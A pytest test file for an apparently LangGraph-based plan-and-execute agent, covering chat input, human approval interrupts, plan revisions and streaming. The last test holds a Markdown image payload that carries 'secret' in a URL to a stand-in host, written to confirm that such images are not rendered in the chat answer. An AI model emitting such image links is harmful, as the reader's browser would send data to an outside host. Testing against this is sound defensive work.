"""Chat in, chat out: the task as a human message, the answer as an AI message."""

from __future__ import annotations

import pytest
from langchain_core.messages import AIMessage, HumanMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from planexec import build_graph
from planexec.admission import InvalidInputError
from planexec.tools import ToolRegistry
from tests.helpers import echo, plan_of, plan_reply, scripted, step, thread

PLAN = plan_of(step(1, "echo", {"text": "hello"}))


@pytest.fixture
def graph():
    return build_graph(checkpointer=InMemorySaver(), tools=ToolRegistry([echo]))


def test_a_chat_message_is_the_task_and_the_answer_comes_back_as_an_ai_message(
    graph, use_models, ctx
):
    use_models(planner=scripted(plan_reply(PLAN), plan_reply(PLAN)))
    config = thread()
    asked = graph.invoke(
        {"messages": [{"role": "user", "content": "say hello"}]}, config, context=ctx()
    )
    assert "__interrupt__" in asked
    state = graph.get_state(config).values
    assert state["task"] == "say hello"
    assert [type(m) for m in state["messages"]] == [HumanMessage, AIMessage]  # the plan shown
    out = graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config, context=ctx())
    assert out["final"]["status"] == "succeeded"
    assert isinstance(out["messages"][-1], AIMessage)
    assert out["messages"][-1].content == out["final"]["answer"] == "hello"
    # a second human message on the thread is a new task, with a new approval
    again = graph.invoke({"messages": [HumanMessage("say hello again")]}, config, context=ctx())
    assert again["__interrupt__"][0].value["version"] == 2
    state = graph.get_state(config).values
    assert state["task"] == "say hello again"
    assert [m.type for m in state["messages"]] == ["human", "ai", "ai", "human", "ai"]
    assert state["approval"]["action"] == "presented" and state["final"] is None


def test_a_task_run_records_the_task_as_a_human_message(graph, use_models, ctx):
    use_models(planner=scripted(plan_reply(PLAN)))
    config = thread()
    graph.invoke({"task": "say hello"}, config, context=ctx())
    messages = graph.get_state(config).values["messages"]
    assert [(m.type, m.content) for m in messages][0] == ("human", "say hello")
    out = graph.invoke(Command(resume={"action": "cancel"}), config, context=ctx())
    assert out["messages"][-1].content == "Cancelled by the reviewer: no reason given"


@pytest.mark.parametrize(
    "value",
    [
        {"messages": []},
        {"messages": [{"role": "assistant", "content": "hi"}]},
        {"messages": [{"role": "user", "content": "   "}]},
        {"messages": [{"role": "wizard", "content": "x"}]},
        {"messages": [{"role": "user", "content": "x" * 30_000}]},
        {"messages": [{"role": "user", "content": "a\x00b"}]},
    ],
)
def test_chat_input_without_a_usable_task_is_refused_up_front(graph, value):
    config = thread()
    with pytest.raises(InvalidInputError):
        graph.invoke(value, config)
    assert graph.get_state(config).values == {}


def test_the_messages_stream_shows_the_answer_not_the_planner_writing(graph, use_models, ctx):
    use_models(planner=scripted(plan_reply(PLAN)))
    config = thread()
    seen = list(graph.stream({"task": "say hello"}, config, context=ctx(), stream_mode="messages"))
    seen += graph.stream(
        Command(resume={"action": "approve"}), config, context=ctx(), stream_mode="messages"
    )
    nodes = [meta["langgraph_node"] for _, meta in seen]
    assert "planner" not in nodes  # tagged langsmith:nostream
    answers = [m.content for m, meta in seen if meta["langgraph_node"] == "finalizer"]
    assert answers == ["hello"]


def test_a_task_message_edited_in_place_is_the_new_task(graph, use_models, ctx):
    use_models(planner=scripted(plan_reply(PLAN), plan_reply(PLAN)))
    config = thread()
    graph.invoke({"messages": [{"role": "user", "content": "OLD TASK"}]}, config, context=ctx())
    old = graph.get_state(config).values["messages"][0]
    edited = {"role": "user", "content": "NEW TASK", "id": old.id}  # a chat UI's edit
    again = graph.invoke({"messages": [edited]}, config, context=ctx())
    state = graph.get_state(config).values
    assert state["task"] == "NEW TASK" and again["__interrupt__"][0].value["version"] == 2
    assert [m.type for m in state["messages"]] == ["human", "ai", "ai"]
    assert state["messages"][0].content == "NEW TASK"
    assert "**Plan v2**" in state["messages"][-1].content
    assert state["revisions"][-1]["reason"]  # the old plan is kept as a revision


def test_every_approval_is_asked_under_an_ai_message_that_shows_the_plan(graph, use_models, ctx):
    """Agent Chat UI shows an interrupt only under the last message, and only if it is an AI
    message (or the thread has none): a second task on a thread showed no approve / edit /
    reject control at all, and a refused answer was re-asked without a word of why."""
    other = plan_of(step(1, "echo", {"text": "bye"}))
    use_models(planner=scripted(plan_reply(PLAN), plan_reply(PLAN), plan_reply(other)))
    config = thread()

    def last():
        messages = graph.get_state(config).values["messages"]
        return messages[-1], len(messages)

    graph.invoke({"messages": [{"role": "user", "content": "say hello"}]}, config, context=ctx())
    shown, n = last()
    assert shown.type == "ai" and n == 2
    assert "**Plan v1**" in shown.content and "| 1 | `echo` |" in shown.content
    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config, context=ctx())
    assert last()[0].content == "hello"

    graph.invoke({"messages": [HumanMessage("say hello again")]}, config, context=ctx())
    shown, n = last()  # the second task's approval: under its own AI message
    assert shown.type == "ai" and "**Plan v2**" in shown.content and n == 5

    bad = {"decisions": [{"type": "edit", "edited_action": {"name": "run_plan", "args": {}}}]}
    asked = graph.invoke(Command(resume=bad), config, context=ctx())["__interrupt__"][0].value
    shown, n = last()  # refused: said in the chat, above the same question asked again
    assert asked["error"] and asked["error"] in shown.content and "**Plan v2**" in shown.content
    assert n == 6

    again = {"decisions": [{"type": "reject", "message": "say bye"}]}
    asked = graph.invoke(Command(resume=again), config, context=ctx())["__interrupt__"][0].value
    shown, n = last()
    assert asked["version"] == 3 and asked["error"] is None
    assert "**Plan v3**" in shown.content and '"bye"' in shown.content and n == 7
    out = graph.invoke(Command(resume={"action": "approve"}), config, context=ctx())
    assert out["messages"][-1].content == "bye" and len(out["messages"]) == 8


def test_the_answer_in_the_chat_shows_no_image_from_a_step_output(graph, use_models, ctx):
    """A chat UI renders the answer as Markdown: an image in a step's output (a file read, a
    model's text) was fetched by the reader's browser as soon as the answer showed."""
    from markdown_it import MarkdownIt

    leak = "![x](http://127.0.0.1:9/leak.png?d=secret) and ![y][ref]\n\n[ref]: http://127.0.0.1:9/y"
    use_models(planner=scripted(plan_reply(plan_of(step(1, "echo", {"text": leak})))))
    config = thread()
    graph.invoke({"task": "say it"}, config, context=ctx())
    out = graph.invoke(Command(resume={"action": "approve"}), config, context=ctx())
    assert out["final"]["answer"] == leak  # the state keeps the output as it was
    tokens = MarkdownIt("commonmark").parse(out["messages"][-1].content)
    inline = [c for t in tokens for c in (t.children or [])]
    assert not [t for t in inline if t.type == "image"]
    assert "leak.png" in out["messages"][-1].content  # still shown, as a link at most
